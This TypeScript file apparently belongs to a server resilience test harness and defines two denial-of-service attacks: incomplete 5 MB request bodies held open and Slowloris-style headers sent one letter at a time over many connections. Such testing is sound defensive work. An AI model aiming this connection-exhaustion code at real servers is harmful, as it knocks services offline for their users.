import { setTimeout as sleep } from 'node:timers/promises';
import { type Attack, sized } from '../attack.ts';

/** Bodies whose last byte never arrives. */
export const halfBodies: Attack = {
  summary: '100 connections that each send 5 MB of a body and never the rest',
  attack: async (context) => {
    const { clients, urls } = context;
    const size = sized(context, 5_242_880, 1_000_000);
    const head = `POST / HTTP/1.1\r\nhost: ${new URL(urls.http ?? '').host}\r\ncontent-type: application/json\r\ncontent-length: ${size}\r\n\r\n`;
    const most = Buffer.alloc(size - 1, 0x20);
    for (let index = 0; index < sized(context, 100, 20); index++) {
      const socket = await clients.connect(urls.http ?? '');
      socket.on('data', (chunk: Buffer) => clients.tally.add(String(chunk).split('\r\n')[0] ?? ''));
      socket.write(head);
      socket.write(most);
      clients.tally.add('half a body sent');
    }
    await sleep(sized(context, 8_000, 500), undefined, { signal: context.signal }).catch(() => undefined);
  },
};

/** Connections that send the head of a request byte by byte. */
export const slowHeaders: Attack = {
  summary: '1,000 connections that send the head of a request letter by letter',
  attack: async (context) => {
    const { clients, urls } = context;
    const head = `POST / HTTP/1.1\r\nhost: ${new URL(urls.http ?? '').host}\r\nx: ${'y'.repeat(1_000)}`;
    const open = async (url: string) => {
      const socket = await clients.connect(url);
      socket.on('data', (chunk: Buffer) => clients.tally.add(String(chunk).split('\r\n')[0] ?? ''));
      return socket;
    };
    const sockets = [];
    for (let index = 0; index < sized(context, 1_000, 100); index++) {
      sockets.push(await open(index % 2 === 0 ? (urls.http ?? '') : (urls.webSocket ?? '').replace('ws', 'http')));
    }
    for (let letter = 0; letter < sized(context, 15, 5) && !context.signal.aborted; letter++) {
      for (const socket of sockets) if (socket.writable) socket.write(head[letter] ?? 'y');
      await sleep(sized(context, 1_000, 100));
    }
    clients.tally.add('heads begun', sockets.length);
  },
};
